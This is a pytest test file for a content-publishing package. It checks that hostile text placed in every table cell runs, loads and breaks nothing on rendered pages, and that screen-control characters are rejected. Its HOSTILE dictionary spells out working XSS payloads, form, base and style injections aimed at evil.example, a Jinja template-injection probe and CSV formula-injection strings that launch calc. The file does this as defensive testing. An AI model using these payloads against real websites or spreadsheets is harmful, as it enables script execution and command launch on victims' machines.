"""A cell of a table is text: whatever stands in it, nothing runs, loads or breaks the page."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from ketcontent import assemble, list_documents, with_signoffs, write_content
from ketcontent.checks import check, findings
from ketcontent.errors import BrokenTables
from ketcontent.reviews import changes, show
from ketcontent.schemas import TABLES, read_schemas
from ketcontent.tables import Content, frame_of, read_content
from tests.conftest import ROOT
from tests.judging import page as sound_page
from tests.test_pages import shown

SCHEMAS = read_schemas(ROOT / "data")

RUNS = "window.ran=(window.ran||0)+1"
HOSTILE = {
    "a script": f"<script>{RUNS}</script>",
    "a script that closes ours": f"</script><script>{RUNS}</script>",
    "an image that fails": f'<img src=x onerror="{RUNS}">',
    "a picture that loads": f"<svg onload='{RUNS}'><animate onbegin={RUNS}></svg>",
    "an attribute left": f'" autofocus onfocus="{RUNS}" x="',
    "an attribute left with one quote": f"' onmouseover='{RUNS}' x='",
    "a style": "</style><style>*{display:none}</style><style>@import 'https://evil.example/a';",
    "a frame": f"<iframe srcdoc='<script>parent.{RUNS}</script>'></iframe>",
    "a base and a refresh": "<base href=https://evil.example><meta http-equiv=refresh content=0>",
    "a form": "<form action=https://evil.example><input autofocus><button>Go</button></form>",
    "a link that runs": f"[so](javascript:{RUNS}) <a href='javascript:{RUNS}'>so</a>",
    "a link with data": "[so](data:text/html;base64,PHNjcmlwdD4=)",
    "an image of Markdown": "![dot](https://evil.example/dot.png)",
    "Jinja": "{{ 7 * 7 }}{% for x in range(9) %}x{% endfor %}{{ cycler.__init__.__globals__ }}",
    "the fields of a string": "{name} {0} {number} {day}",
    "Markdown": "# a\\ *b* **c** `d` | e | [^f] --- > g ~~h~~ $i$ :::j",
    "entities": "&lt;b&gt; &#60;script&#62; &amp;amp; &nbsp; &zwj;",
    "a formula": "=cmd|' /C calc'!A0",
    "a formula with a sign": "+1+cmd|' /C calc'!A0 -2 @SUM(1+1)",
    "a long word": "w" * 10_000,
    "emoji": "👩‍⚕️👨🏿‍🦽🏳️‍🌈" * 40,
    "combining marks": "Z" + "\u0301\u0302\u0303\u0304" * 200,
    "a closing comment": "--> ]]> */ }} %} -->",
}
REFUSED = {
    "a null": "\u0000",
    "a bell": "\u0007",
    "an escape": "\u001b[2J",
    "delete": "\u007f",
    "a control of the second set": "\u0085",
    "right to left override": "\u202e",
    "left to right embedding": "\u202a",
    "an isolate": "\u2066",
}


def everywhere(cell: str) -> Content:
    """Return the sound page with one cell in every place that has text of its own."""
    content = sound_page()
    people = [
        {"person": "ada", "name": cell, "credential": cell, "affiliation": cell, "conflicts": cell}
    ]
    terms = [{"term": cell, "language": "en", "expansion": cell, "plain": cell, "definition": cell}]
    cited = content.statements["text"].str.extract(r"(\[@[^]]+\])$")[0].fillna("")
    filled = content.statements["text"] != ""
    return replace(
        content,
        documents=content.documents.assign(
            title=cell, audience=cell, purpose=cell, publisher=cell, funding=cell
        ),
        sections=content.sections.assign(heading=cell, number="1."),
        statements=content.statements.assign(
            text=(cell + " " + cited).where(filled, ""),
            label=cell,
            certainty_reasons=cell,
            author="ada",
        ),
        notices=content.notices.assign(text=cell),
        sources=content.sources.assign(
            **dict.fromkeys(
                ("title", "authors", "container_title", "volume", "issue", "page", "publisher"),
                cell,
            ),
            unconfirmed=cell,
        ),
        evidence=content.evidence.assign(finding=cell, locator=cell),
        help_lines=content.help_lines.assign(contact=cell, hours=cell),
        people=frame_of("people", people, content),
        terms=frame_of("terms", terms, content),
        topics=content.topics.assign(question=cell),
    )


@pytest.fixture(scope="module")
def tab(browser: Any) -> Iterator[Any]:
    """A tab that may load files of this machine, and writes down what it asks for."""
    context = browser.new_context(viewport={"width": 320, "height": 640})
    page = context.new_page()
    page.asked = []
    page.on("request", lambda request: page.asked.append(request.url))
    page.on("dialog", lambda dialog: (page.asked.append(dialog.message), dialog.dismiss()))
    context.route("http*://**/*", lambda route: route.abort())
    yield page
    context.close()


@pytest.mark.browser
@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_cell_in_every_place_runs_loads_and_breaks_nothing(
    tab: Any, tmp_path: Path, kind: str
) -> None:
    content = everywhere(HOSTILE[kind])
    page = with_signoffs(content, assemble(content, "zinc"))
    found = findings(check(content, ["zinc"]), content, "zinc")
    drawn: dict[str, list[Any]] = {
        "page": [page],
        "section": [with_signoffs(content, assemble(content, "zinc", section="colds"))],
        "archive": [assemble(content, "zinc", edition="supplied")],
        "index": [list_documents(content)],
        "review": [show(found, "Findings"), show(changes(content, "zinc"), "Changes")],
    }
    for name, things in drawn.items():
        path = shown(tmp_path, name, *(one._repr_mimebundle_() for one in things))
        tab.asked.clear()
        tab.goto(path.as_uri(), wait_until="load")
        assert tab.asked == [path.as_uri()], name
        assert tab.evaluate("window.ran") is None, name
        assert tab.evaluate("document.scrollingElement.scrollWidth") == 320, name
        assert tab.evaluate("document.querySelectorAll('main').length") == 1, name
        assert tab.evaluate("document.querySelectorAll('iframe, form, base').length") == 0, name
        assert tab.evaluate("getComputedStyle(document.body).display") != "none", name
    assert tab.evaluate("document.scripts.length") == 0


def folder_of(content: Content, path: Path) -> Path:
    write_content(content, path)
    return path


FIELDS = [
    (table, name)
    for table in TABLES
    for name, field in SCHEMAS[table].fields.items()
    if field["type"] == "string"
]


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder of tables with a row in each."""
    content = everywhere("x")
    waiver = {"table": "statements", "row": "zinc/harm", "rule": "r", "reason": "x"}
    rows: dict[str, list[dict[str, Any]]] = {
        "signoffs": [
            {"signoff": "s", "document": "zinc", "statement": "harm", "person": "ada"}
            | {"capacity": "lay", "verdict": "approved", "digest": f"w1:{'0' * 64}"}
            | {"wording": "x", "signed_on": "2026-11-01", "comment": "x"}
        ],
        "policies": [{"kind": "risk", "capacity": "lay"}],
        "rules": [
            {"rule": "r", "severity": "error"}
            | dict.fromkeys(("pattern", "message", "hint", "authority"), "x")
            | dict.fromkeys(("bad_example", "good_example"), "x")
        ],
        "waivers": [{**waiver, "until": "2026-12-31"}],
        "strings": [{"string": "sources", "language": "en", "text": "x"}],
    }
    content = replace(
        content, **{table: frame_of(table, some, content) for table, some in rows.items()}
    )
    return folder_of(content, tmp_path_factory.mktemp("hostile") / "data")


@pytest.mark.parametrize(("table", "column"), FIELDS, ids=[".".join(one) for one in FIELDS])
def test_a_character_that_steers_a_screen_is_refused_with_its_row(
    folder: Path, table: str, column: str
) -> None:
    path = folder / f"{table}.csv"
    sound = path.read_bytes()
    rows = list(csv.DictReader(io.StringIO(sound.decode())))
    assert rows, f"{table} has no row to break"
    try:
        for kind, character in REFUSED.items():
            broken = [dict(rows[0]), *rows[1:]]
            broken[0][column] = f"x{character}y"
            text = io.StringIO()
            writer = csv.DictWriter(text, rows[0].keys(), lineterminator="\n")
            writer.writeheader()
            writer.writerows(broken)
            path.write_text(text.getvalue(), "utf-8", newline="")
            with pytest.raises(BrokenTables) as refused:
                read_content(folder)
            named = [
                one
                for one in refused.value.report
                if (one.table, one.line, one.column) == (table, 2, column)
                or (one.table, one.column, one.rule) == (table, "", "control-character")
            ]
            assert named, (kind, str(refused.value))
    finally:
        path.write_bytes(sound)


def test_the_folder_is_sound_before_and_after(folder: Path) -> None:
    assert read_content(folder).documents["title"].tolist() == ["x"]
